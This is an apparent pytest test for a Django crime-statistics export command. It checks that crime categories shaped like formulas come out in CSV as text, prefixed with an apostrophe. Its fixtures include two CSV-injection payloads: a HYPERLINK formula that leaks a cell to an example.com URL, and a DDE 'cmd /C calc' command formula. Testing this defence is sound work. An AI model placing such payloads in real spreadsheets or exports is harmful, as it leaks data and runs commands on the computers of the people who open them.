"""`saferhub crime_counts --format csv` opens in a spreadsheet as text, whatever an extract calls a crime."""

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command

from saferhub.crimedata.extracts import extract_mapping_parse
from saferhub.crimedata.services import extract_import

pytestmark = pytest.mark.usefixtures("geography")

MAPPING = Path(__file__).resolve().parents[1] / "mappings" / "nwl-crime.toml"
FORMULA = '=HYPERLINK("http://example.com/?leak="&A1,"Burglary")'


def test_a_category_that_looks_like_a_formula_is_printed_as_text(db, crime_store, tmp_path):
    # The mapping keeps a category it does not list as the extract writes it.
    mapping = extract_mapping_parse(
        MAPPING.read_text().replace('unmapped = "reject"', 'unmapped = "keep"'), name="nwl-crime"
    )
    extract = tmp_path / "extract.csv"
    with extract.open("w", newline="") as file:
        rows = csv.writer(file)
        rows.writerow(
            [
                *("Crime Reference", "Recorded Date", "Offence Group", "Offence Subgroup", "LSOA Code"),
                *("Domestic Flag", "Alcohol Flag", "Hate Flag", "Rural Flag"),
            ]
        )
        rows.writerow(["1", "03/12/2018", FORMULA, "", "E01025924", "N", "N", "N", "N"])
        rows.writerow(["2", "04/12/2018", "@SUM(1+1)*cmd|' /C calc'!A0", "", "E01025924", "N", "N", "N", "N"])
    assert extract_import(paths=[extract], mapping=mapping).rows_stored == 2
    out = io.StringIO()
    call_command(
        "crime_counts",
        *(
            "--area",
            "E07000134",
            "--source",
            "north-west-leicestershire.crime",
            "--from",
            "2018-12",
            "--to",
            "2018-12",
        ),
        *("--format", "csv"),
        stdout=out,
    )
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["period", "category", "count"]
    assert sorted(rows[1:]) == [
        ["2018-12", "'" + FORMULA, "1"],
        ["2018-12", "'@SUM(1+1)*cmd|' /C calc'!A0", "1"],
    ]
    assert "\r" not in out.getvalue()  # a command's output: one "\n" a line
